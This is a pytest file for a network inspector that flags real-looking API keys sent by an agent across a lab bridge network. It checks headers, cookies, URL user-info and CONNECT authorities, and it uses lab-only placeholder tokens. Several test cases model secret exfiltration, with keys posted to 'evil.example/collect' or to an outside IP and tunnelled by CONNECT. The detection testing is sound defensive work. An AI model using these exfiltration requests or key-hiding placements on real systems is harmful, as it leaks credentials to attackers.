"""real-key-on-agent-hop: where it is found, and where something only resembles it."""

from __future__ import annotations

from base64 import b64encode
from typing import Final

import pytest

from inspector.diagnosis.catalogue import CODES
from tests.diagnosis.calls import KEY, found, golden, sent
from tests.exchanges.network import (
    AGENT,
    API_PROXY,
    PLACEHOLDER,
    SQUID,
    Network,
    connect,
    request,
    response,
    say,
)
from tests.exchanges.network import KEY as REAL_KEY
from tests.redaction.test_marks import same


def test_a_key_of_a_real_keys_shape_is_told() -> None:
    assert "real-key-on-agent-hop" in found(golden("agent-holds-real-key"))


def test_a_placeholder_is_not() -> None:
    assert "real-key-on-agent-hop" not in found(golden("healthy-json"))


TOKEN: Final = "ghp_LABONLY" + 29 * "t"


JWT: Final = "eyJhbGciOiJub25lIn0.eyJsYWIiOjF9.c2lnbmF0dXJl"


GATEWAY: Final = "172.30.0.60"  # an MCP gateway on the bridge


def basic(pair: str) -> str:
    return f"Basic {b64encode(pair.encode()).decode()}"


@pytest.mark.parametrize(
    "field",
    [
        f"x-api-key: {REAL_KEY}",
        f"Authorization: Bearer {REAL_KEY}",
        f"Authorization: token {TOKEN}",
        f"x-litellm-api-key: {REAL_KEY}",
        f"x-some-vendors-token: {TOKEN}",
        f"Proxy-Authorization: {basic(f'x-access-token:{TOKEN}')}",
        f"Cookie: a=b; key={REAL_KEY}",
        f"X-Note: see {REAL_KEY}",
        f"Sec-WebSocket-Protocol: realtime, openai-insecure-api-key.{REAL_KEY}",
    ],
)
@pytest.mark.parametrize(("server", "port", "line", "title"), [
    (API_PROXY, 10001, "POST /v1/messages HTTP/1.1", "The agent holds a key"),
    (SQUID, 3128, f"POST http://{API_PROXY}:10001/v1/messages HTTP/1.1", "The agent holds a key"),
    (GATEWAY, 8080, "POST /mcp/github HTTP/1.1", "sent to a host of the bridge"),
    (SQUID, 3128, f"POST http://{GATEWAY}:8080/mcp HTTP/1.1", "sent to a host of the bridge"),
    (SQUID, 3128, "POST http://evil.example/collect HTTP/1.1", "sent out of the bridge"),
    ("203.0.113.5", 80, "POST /collect HTTP/1.1", "sent out of the bridge"),
    (SQUID, 3128, "CONNECT evil.example:443 HTTP/1.1", "sent to Squid with a CONNECT"),
])  # fmt: skip
def test_a_keys_prefix_is_real_wherever_on_the_bridge_it_is_sent(
    server: str, port: int, line: str, title: str, field: str
) -> None:
    finding = found(sent(server, port, line, field))["real-key-on-agent-hop"]

    assert (finding.severity, finding.count) == ("error", 1)
    assert title in finding.title


def test_a_key_in_a_target_is_one_as_well() -> None:
    report = sent(GATEWAY, 8080, f"POST /mcp/{REAL_KEY}/x HTTP/1.1")
    assert "real-key-on-agent-hop" in found(report)


def test_keys_in_several_places_have_the_general_title() -> None:
    net = Network()
    for server, port in ((API_PROXY, 10001), (GATEWAY, 8080)):
        say(net.to(server, port), request("POST / HTTP/1.1", f"x-api-key: {REAL_KEY}"), response())

    finding = found(net.report())["real-key-on-agent-hop"]

    assert (finding.count, finding.title) == (2, CODES["real-key-on-agent-hop"].title)


@pytest.mark.parametrize("value", [JWT, 32 * "a", "0123456789abcdef" * 2])
def test_a_form_without_a_prefix_is_real_to_an_api_or_outward_and_a_services_own_on_the_bridge(
    value: str,
) -> None:
    def is_found(server: str, port: int, line: str) -> bool:
        report = sent(server, port, line, f"Authorization: Bearer {value}")
        return "real-key-on-agent-hop" in found(report)

    assert is_found(API_PROXY, 10001, "POST /v1/messages HTTP/1.1")
    assert is_found(SQUID, 3128, "GET http://evil.example/ HTTP/1.1")
    assert is_found("203.0.113.5", 80, "GET / HTTP/1.1")
    assert not is_found(GATEWAY, 8080, "POST /mcp/github HTTP/1.1")


@pytest.mark.parametrize("field", [
    KEY,
    "Authorization: Bearer opaque-session-of-the-gateway",
    f"Authorization: {basic('user:password')}",
    "Cookie: session=0123456789abcdef0123456789abcdef",
    f"x-request-id: {REAL_KEY[:6]}",
    f"x-note: {PLACEHOLDER}",
])  # fmt: skip
@pytest.mark.parametrize("line", ["POST http://a.test/ HTTP/1.1", "CONNECT a.test:443 HTTP/1.1"])
def test_placeholders_passwords_cookies_and_opaque_values_are_not_keys(
    line: str, field: str
) -> None:
    assert "real-key-on-agent-hop" not in found(sent(SQUID, 3128, line, field))


@pytest.mark.parametrize("form", ["robin:{}", "{}:robin", "{}:", "{}"])
@pytest.mark.parametrize(
    "line", ["POST http://{}@172.30.0.30:10001/v1/messages HTTP/1.1", "POST / HTTP/1.1"]
)
def test_a_key_in_the_user_information_of_a_url_is_one(form: str, line: str) -> None:
    """RFC 3986 3.2.1: in a target, a Referer, an authority; Basic carries the same."""
    net = Network()
    user = form.format(REAL_KEY)
    asked = request(line.format(user), f"Referer: https://{user}@lab.test/")
    say(net.to_squid(AGENT), asked, response()).close()

    assert "real-key-on-agent-hop" in found(net.report())
    copied = same(net.wire)
    assert REAL_KEY[20:].encode() not in b"".join(part.data for part in copied)


def test_a_key_in_the_authority_of_a_connect_is_one_too() -> None:
    net = Network()
    say(
        net.to_squid(AGENT), connect(f"robin:{REAL_KEY}@api.lab.test:443"), response("403 No")
    ).close()

    assert "real-key-on-agent-hop" in found(net.report())


def test_a_password_without_a_documented_prefix_is_not_meant() -> None:
    net = Network()
    line = "GET http://robin:LABONLY0a1b2c3d4e@172.30.0.30:10001/v1/models HTTP/1.1"
    say(net.to_squid(AGENT), request(line), response()).close()

    assert "real-key-on-agent-hop" not in found(net.report())
